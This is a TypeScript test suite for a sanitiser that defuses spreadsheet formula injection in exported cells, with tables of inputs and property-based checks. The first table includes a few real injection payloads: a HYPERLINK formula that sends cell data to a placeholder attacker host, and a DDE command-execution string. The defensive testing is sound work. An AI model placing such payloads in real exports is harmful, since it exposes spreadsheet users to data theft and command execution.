/**
 * Goal: nothing that a vendor says becomes a formula when the output is opened in a spreadsheet program, and what is no
 * formula comes out as the vendor said it.
 * Method: tables of what begins a formula and what does not, and arbitrary cells against a rule of our own making, which
 * is written down here in another way than in the source: it strips what a program may strip and looks at what is left.
 */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { safeCell } from '../../src/lib/formulas.ts';

/** Everything that some program passes over before it decides what a cell is. */
const PASSED_OVER = /^(?:\p{White_Space}|\p{Cc}|\p{Cf})*/u;

/** Whether a spreadsheet program could take the cell for a formula: Excel, LibreOffice or Sheets, in any locale. */
function mayBeFormula(cell: string): boolean {
  const [skipped = ''] = PASSED_OVER.exec(cell) ?? [];
  const first = cell.slice(skipped.length)[0]?.normalize('NFKC') ?? '';
  return /[\t\r\n]/.test(skipped) || ['=', '+', '-', '@'].includes(first);
}

/** What a program may make cells of that takes the line apart at another separator than ours: each part, without quotes. */
function partsOf(cell: string): readonly string[] {
  return cell.split(/[;,|\t\r\n]/).map((part) => part.replace(/^["\p{White_Space}\p{Cc}\p{Cf}]+/u, ' '));
}

/** Telephone numbers, and numbers, may stand in a list. */
function isListOf(cell: string, first: string): boolean {
  return isNumberOrPhone(first) && [';', ',', '|'].includes(cell[first.length] ?? '');
}

/** What may begin with a sign: nothing is computed from it, and nothing is looked up. */
function isNumberOrPhone(cell: string): boolean {
  const bare = cell.replace(/^ *[+-]?/, '').replace(/%? *$/, '');
  return /^[\d ,]+(?:\.\d+)?(?:[eE][+-]?\d{1,3})?$/.test(bare);
}

describe('what begins a formula gets an apostrophe in front, and is otherwise as it was', () => {
  test.each([
    '=1+1',
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '@SUM(1+1)*cmd',
    '\tAcme',
    '  =1+1',
    '\u00a0=1+1',
    '\ufeff=1+1',
    '＝1+1',
    ' ＝1+1',
    '=',
    '-',
    '+-5',
    '-A1',
    '-5-3',
    '+61-2-9999-0000',
    '-5\n',
    '@acme',
  ])('%j', (cell) => {
    expect(safeCell(cell)).toBe(`'${cell}`);
  });
});

describe('what would begin one where a program takes the line apart gets the apostrophe there', () => {
  test.each([
    ['Acme;=1+1', "Acme;'=1+1"],
    ['Acme, @SUM(1)', "Acme,' @SUM(1)"],
    ['a\r\n=1', "a\r\n'=1"],
    ['a;"=1+1"', `a;'"=1+1"`],
    ['a; \u00a0\u200b=1', "a;' \u00a0\u200b=1"],
    ['a;＝1', "a;'＝1"],
    ['=1;=2', "'=1;'=2"],
    ['+61 2 9999 0000\n=1', "'+61 2 9999 0000\n'=1"],
    ['\t=1+1', "'\t'=1+1"],
    ['\n=1+1', "'\n'=1+1"],
    ['-1,234;-2+3', "-1,234;'-2+3"],
  ])('%j', (cell, text) => {
    expect(safeCell(cell)).toBe(text);
  });
});

describe('what is no formula stays as it is', () => {
  test.each([
    '',
    ' ',
    'Acme & Co',
    "'=1+1",
    'Acme; Beta, Gamma | Delta',
    '+61 2 9999 0000; +61 2 9999 0001',
    'Smith-Jones, Jo; a=b',
    '{"a":1,"b":-5,"c":"x"}',
    'jo@acme.example',
    '2026-11-20T00:00:00.000Z',
    '−5',
    '-5',
    '+3',
    '-5%',
    '-1,234,567.89',
    '+1E+12',
    ' -5 ',
    '+61 2 9999 0000',
    '+1 212 555 0100',
    'Zürich',
  ])('%j', (cell) => {
    expect(safeCell(cell)).toBe(cell);
  });
});

/** Cells that are made of what formulas begin with more often than chance would make them. */
const cells = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc
    .array(
      fc.oneof(
        fc.constantFrom(...'=+-@＝＋－＠;|\t\r\n \u00a0\ufeff\u0000\u200b\'"1,.%eE5A('),
        fc.string({ unit: 'grapheme', maxLength: 3 }),
      ),
      { maxLength: 8 },
    )
    .map((parts) => parts.join('')),
);

test('no cell that was made safe begins a formula in any program, unless it is a number or a telephone number', () => {
  fc.assert(
    fc.property(cells, (cell) => {
      const text = safeCell(cell);
      const [first = ''] = text.split(/[;,|\t\r\n]/);
      expect(mayBeFormula(text) && !isNumberOrPhone(text) && !isListOf(text, first)).toBe(false);
      const parts = isNumberOrPhone(text) ? [] : partsOf(text).slice(1);
      expect(parts.filter((part) => mayBeFormula(part) && !isNumberOrPhone(part))).toEqual([]);
    }),
    { numRuns: 2_000 },
  );
});

/** Without the control characters that no cell of ours holds. */
const visible = (cell: string): string =>
  cell.replace(/[^\P{Cc}\t\n\r]/gu, (character) => (character < '\u0080' ? '' : '\uFFFD'));

test('nothing is lost: a safe cell is the cell, or the cell with apostrophes where a formula would begin', () => {
  fc.assert(
    fc.property(cells, (cell) => {
      const text = safeCell(cell);
      expect(text.replaceAll("'", '')).toBe(visible(cell).replaceAll("'", ''));
      const couldBe = [visible(cell), ...partsOf(visible(cell))].some(mayBeFormula);
      expect(text !== visible(cell) && !couldBe).toBe(false);
    }),
    { numRuns: 2_000 },
  );
});
